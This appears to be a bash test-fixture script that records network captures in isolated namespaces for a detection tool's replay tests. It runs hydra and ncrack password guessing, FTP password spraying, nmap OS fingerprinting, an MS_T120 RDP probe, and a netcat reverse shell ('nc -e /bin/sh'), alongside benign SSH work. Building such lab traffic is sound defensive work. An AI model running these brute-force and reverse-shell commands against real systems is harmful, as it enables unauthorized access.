#!/bin/bash
# SPDX-License-Identifier: MIT
# record_logins.sh SCENARIO...|all|list: real tools that log in, or have somebody log in, between the namespaces of ns.sh,
# recorded at the inside interface of the gateway into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump ethtool iproute2 hydra vsftpd openssh-server openssh-client sshpass curl
# python3-asyncssh netcat-traditional nmap rsync git xrdp ncrack openssl.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
replay=$here/../replay
export XFL_PREFIX=${XFL_PREFIX:-xfl}
cli=(ip netns exec "$XFL_PREFIX-cli") gw=(ip netns exec "$XFL_PREFIX-gw") srv=(ip netns exec "$XFL_PREFIX-srv")
dir=
pids=()
user=xfllab # made for the run, and removed

bg() { # log command...: starts a service, remembers it
    local log=$1
    shift
    "$@" >"$dir/$log.log" 2>&1 </dev/null &
    pids+=($!)
}

stop_all() {
    local pid
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    for pid in "${pids[@]}"; do wait "$pid" 2>/dev/null || true; done
    pids=()
}

cleanup() {
    stop_all
    "$here/ns.sh" down
    userdel "$user" 2>/dev/null || true
    [ -z "$dir" ] || rm -rf "$dir"
}

prepare() {
    dir=$(mktemp -d)
    chmod 755 "$dir"
    mkdir -p "$dir/home" "$dir/empty" /run/sshd
    useradd -M -d "$dir/home" -s /bin/sh "$user"
    echo "$user:winter24" | chpasswd
    chown "$user" "$dir/home"
    ssh-keygen -q -t ed25519 -N '' -f "$dir/hostkey"
    ssh-keygen -q -t ed25519 -N '' -f "$dir/key"
    printf 'secret\npassword\n123456\nletmein\nqwerty\ndragon\nmonkey\nshadow\nsunshine\nprincess\nfootball\nwinter24\n' >"$dir/words"
    seq -f 'user%02g' 14 >"$dir/users"
}

sshd() {
    cat >"$dir/sshd.conf" <<-EOF
	Port 22
	ListenAddress 10.20.2.20
	HostKey $dir/hostkey
	PasswordAuthentication yes
	UsePAM no
	PidFile none
	MaxStartups 100
	StrictModes no
	AuthorizedKeysFile $dir/authorized
	Subsystem sftp internal-sftp
	EOF
    bg sshd "${srv[@]}" /usr/sbin/sshd -D -e -f "$dir/sshd.conf"
    sleep 0.5
}

ftpd() {
    cat >"$dir/vsftpd.conf" <<-EOF
	listen=YES
	listen_address=10.20.2.20
	local_enable=YES
	anonymous_enable=NO
	pam_service_name=vsftpd
	secure_chroot_dir=$dir/empty
	max_login_fails=3
	delay_failed_login=0
	seccomp_sandbox=NO
	EOF
    bg vsftpd "${srv[@]}" /usr/sbin/vsftpd "$dir/vsftpd.conf"
    sleep 0.5
}

record() { # scenario filter command...
    local scenario=$1 filter=$2
    shift 2
    mkdir -p "$replay/$scenario"
    "${gw[@]}" tcpdump -q -U -i gin -s 0 -w "$dir/input.pcap" "$filter" 2>"$dir/tcpdump.log" &
    local dump=$!
    sleep 0.7
    "$@"
    sleep 0.7
    kill "$dump"
    wait "$dump" 2>/dev/null || true
    cp "$dir/input.pcap" "$replay/$scenario/input.pcap"
}

guess_ssh() { "${cli[@]}" hydra -q -I -t 4 -l "$user" -P "$dir/words" ssh://10.20.2.20 >"$dir/hydra.log" 2>&1 || true; }
guess_ftp() { "${cli[@]}" hydra -q -I -t 4 -l "$user" -P "$dir/words" ftp://10.20.2.20 >"$dir/hydra.log" 2>&1 || true; }
spray_ftp() { "${cli[@]}" hydra -q -I -t 2 -L "$dir/users" -p winter24 ftp://10.20.2.20 >"$dir/hydra.log" 2>&1 || true; }

guess_rdp() { # xrdp without sessions: ncrack gives each try up after 20 s
    openssl req -x509 -newkey rsa:2048 -nodes -keyout "$dir/rdp.key" -out "$dir/rdp.pem" -days 30 -subj /CN=ts1 2>/dev/null
    sed -e 's#^port=.*#port=tcp://10.20.2.20:3389#' -e 's/^fork=.*/fork=false/' -e "s#^certificate=.*#certificate=$dir/rdp.pem#" \
        -e "s#^key_file=.*#key_file=$dir/rdp.key#" /etc/xrdp/xrdp.ini >"$dir/xrdp.ini"
    bg xrdp "${srv[@]}" xrdp -n -c "$dir/xrdp.ini"
    sleep 1
    HOME=$dir "${cli[@]}" timeout -s INT 66 ncrack -g CL=6 --user administrator -P "$dir/words" rdp://10.20.2.20 >"$dir/ncrack.log" 2>&1 || true
}

list() { # password
    "${cli[@]}" curl -s -m 5 "ftp://$user:$1@10.20.2.20/" >/dev/null 2>&1 || true
}

people() { # two typing mistakes; a program with an old password; SSH with a key that is refused first
    list wintr24
    sleep 2
    list winter2
    sleep 3
    list winter24
    for _ in 1 2 3 4 5 6 7 8 9 10; do
        list summer23
        sleep 6
    done
    "${cli[@]}" sshpass -p winter24 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i "$dir/key" \
        "$user@10.20.2.20" uptime >/dev/null 2>&1 || true
}

reversed() { # the inside host connects out and plays the SSH server
    bg back "${srv[@]}" /usr/bin/python3 "$here/ssh_back.py" listen 203.0.113.20 "$dir/hostkey"
    sleep 1
    "${cli[@]}" timeout 8 /usr/bin/python3 "$here/ssh_back.py" connect 203.0.113.20 "$dir/hostkey" >"$dir/back2.log" 2>&1 || true
}

shell_back() { # nc -e, and somebody who types
    { sleep 2; for c in id "uname -a" "ls /" "cat /etc/hostname" nosuchcommand; do echo "$c"; sleep 0.6; done; sleep 1; } |
        "${srv[@]}" timeout 10 nc.traditional -n -l -p 8443 >/dev/null 2>&1 &
    local listener=$!
    sleep 0.7
    "${cli[@]}" timeout 8 nc.traditional -n 203.0.113.20 8443 -e /bin/sh >/dev/null 2>&1 || true
    wait "$listener" 2>/dev/null || true
}

fingerprint() { "${cli[@]}" nmap -n -Pn -O --osscan-guess -p 22,80,443,9 10.20.2.20 >"$dir/nmap.log" 2>&1 || true; }

desktop() { # the begin of remote desktop, as exploits do it
    "${srv[@]}" python3 "$here/rdp_settings.py" serve 10.20.2.20 3 & sleep 0.5
    "${cli[@]}" python3 "$here/rdp_settings.py" ask 10.20.2.20 "" rdpdr
    "${cli[@]}" python3 "$here/rdp_settings.py" ask 10.20.2.20 "" rdpdr
    "${cli[@]}" python3 "$here/rdp_settings.py" ask 10.20.2.20 OFFICE-7 rdpdr cliprdr rdpsnd MS_T120
    wait $! || true
}

check_ssh() { "${cli[@]}" hydra -q -I -t 1 -l "$user" -p winter24 ssh://10.20.2.20 >"$dir/hydra.log" 2>&1 || true; }
check_ftp() { "${cli[@]}" hydra -q -I -t 1 -l "$user" -p winter24 ftp://10.20.2.20 >"$dir/hydra.log" 2>&1 || true; }
check_both() { check_ssh; sleep 2; check_ftp; }

keyed() { # the key is known to the server, and pages wait at both ends
    cp "$dir/key.pub" "$dir/authorized"
    chmod 644 "$dir/authorized"
    head -c 24000 /dev/urandom >"$dir/home/data.bin"
    git init -q --bare "$dir/home/repo.git"
    chown -R "$user" "$dir/home"
    bg pages "${srv[@]}" python3 -m http.server -b 127.0.0.1 -d "$dir/home" 8000
    bg mine "${cli[@]}" python3 -m http.server -b 127.0.0.1 -d "$dir/home" 8001
    sleep 1
}

ssh_options() { echo "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -i $dir/key"; }

# shellcheck disable=SC2046 # options are words
in_use() { "${cli[@]}" timeout 20 "$1" $(ssh_options) "${@:2}"; }

# shellcheck disable=SC2046
forwarding() { # seconds options...
    "${cli[@]}" timeout "$1" ssh $(ssh_options) -N "${@:2}" "$user@10.20.2.20" >"$dir/forward.log" 2>&1 &
    sleep 1.5
}

forward_local() {
    forwarding 14 -L 127.0.0.1:9000:127.0.0.1:8000
    for _ in 1 2 3 4 5 6; do "${cli[@]}" curl -s -m 5 -o "$dir/got" http://127.0.0.1:9000/data.bin; sleep 0.7; done
    wait $! || true
}

forward_socks() {
    forwarding 12 -D 127.0.0.1:9001
    for _ in 1 2 3 4 5 6; do "${cli[@]}" curl -s -m 5 -o "$dir/got" -x socks5h://127.0.0.1:9001 http://localhost:8000/; sleep 0.5; done
    wait $! || true
}

forward_back() {
    forwarding 12 -R 127.0.0.1:9002:127.0.0.1:8001
    for _ in 1 2 3 4 5 6; do "${srv[@]}" curl -s -m 5 -o "$dir/got" http://127.0.0.1:9002/; sleep 0.5; done
    wait $! || true
}

typed() { # command lines, key by key
    local line i
    sleep 1
    for line; do
        for ((i = 0; i < ${#line}; i++)); do
            printf %s "${line:i:1}"
            sleep 0.12
        done
        printf '\r'
        sleep 0.6
    done
}

work() { # what SSH is for
    local at="$user@10.20.2.20" i
    typed "ls -l /usr/bin | head -20" "echo hello" $'ech\x7f\x7f\x7fls\x1b[A\x1b[B' "exit" | in_use ssh -tt "$at" >"$dir/typed.log" 2>&1 || true
    in_use scp -q "$dir/home/data.bin" "$at:up.bin" || true
    printf 'ls\nget data.bin %s/down.bin\nput %s/words w\nrm w\n' "$dir" "$dir" | in_use sftp -q "$at" >"$dir/sftp.log" 2>&1 || true
    mkdir -p "$dir/tree"
    for i in $(seq 40); do head -c $((i * 90)) /dev/urandom >"$dir/tree/f$i"; done
    "${cli[@]}" timeout 20 rsync -a -e "ssh $(ssh_options)" "$dir/tree/" "$at:tree/" || true
    "${cli[@]}" timeout 20 rsync -a -e "ssh $(ssh_options)" "$dir/tree/" "$at:tree/" || true
    git init -q "$dir/mine" && git -C "$dir/mine" -c user.name=a -c user.email=a@example.test commit -q --allow-empty -m one
    cp "$dir/tree/"f? "$dir/mine/" && git -C "$dir/mine" add . && git -C "$dir/mine" -c user.name=a -c user.email=a@example.test commit -q -m two
    "${cli[@]}" env GIT_SSH_COMMAND="ssh $(ssh_options)" timeout 20 git -C "$dir/mine" push -q "$at:repo.git" HEAD:main >"$dir/git.log" 2>&1 || true
    "${cli[@]}" env GIT_SSH_COMMAND="ssh $(ssh_options)" timeout 20 git clone -q "$at:repo.git" "$dir/clone" >>"$dir/git.log" 2>&1 || true
    in_use ssh -o ControlMaster=auto -o ControlPath="$dir/cm" -o ControlPersist=8 "$at" true || true
    for i in 1 2 3 4 5 6 7 8; do # as Ansible does: many programs through one connection
        echo 'import os,json; print(json.dumps({"changed":False,"uid":os.getuid()}))' |
            in_use ssh -o ControlPath="$dir/cm" "$at" python3 - >>"$dir/cm.log" 2>&1 || true
    done
    in_use ssh -o ControlPath="$dir/cm" -O exit "$at" 2>/dev/null || true
    forwarding 3 -L 127.0.0.1:9003:127.0.0.1:8000 # and nothing goes through
    wait $! || true
}

scenario() {
    case $1 in
    login_checked) sshd && ftpd && record "$1" "tcp" check_both ;;
    ssh_forward_local) sshd && keyed && record "$1" "tcp port 22" forward_local ;;
    ssh_forward_socks) sshd && keyed && record "$1" "tcp port 22" forward_socks ;;
    ssh_forward_back) sshd && keyed && record "$1" "tcp port 22" forward_back ;;
    benign_ssh_work) sshd && keyed && record "$1" "tcp port 22" work ;;
    login_hydra_ssh) sshd && record "$1" "tcp port 22" guess_ssh ;;
    login_hydra_ftp) ftpd && record "$1" "tcp port 21" guess_ftp ;;
    login_ncrack_rdp) record "$1" "tcp port 3389" guess_rdp ;;
    login_spray_ftp) ftpd && record "$1" "tcp port 21" spray_ftp ;;
    benign_logins) sshd && ftpd && record "$1" "tcp" people ;;
    ssh_reversed) record "$1" "tcp port 22" reversed ;;
    shell_reverse) record "$1" "tcp port 8443" shell_back ;;
    scan_nmap_os) sshd && record "$1" "host 10.20.2.20" fingerprint ;;
    rdp_exploit) record "$1" "tcp port 3389" desktop ;;
    *) echo "record_logins.sh: no scenario $1" >&2 && return 1 ;;
    esac
}

all="login_hydra_ssh login_hydra_ftp login_ncrack_rdp login_spray_ftp benign_logins ssh_reversed shell_reverse scan_nmap_os rdp_exploit login_checked
ssh_forward_local ssh_forward_socks ssh_forward_back benign_ssh_work"
case ${1:-list} in
list) echo "$all" && exit ;;
all) read -ra names <<<"$all" && set -- "${names[@]}" ;;
esac
trap cleanup EXIT
"$here/ns.sh" down 2>/dev/null || true
"$here/ns.sh" up
prepare
for name; do
    scenario "$name"
    stop_all
    echo "$name: $(stat -c %s "$replay/$name/input.pcap") bytes"
done
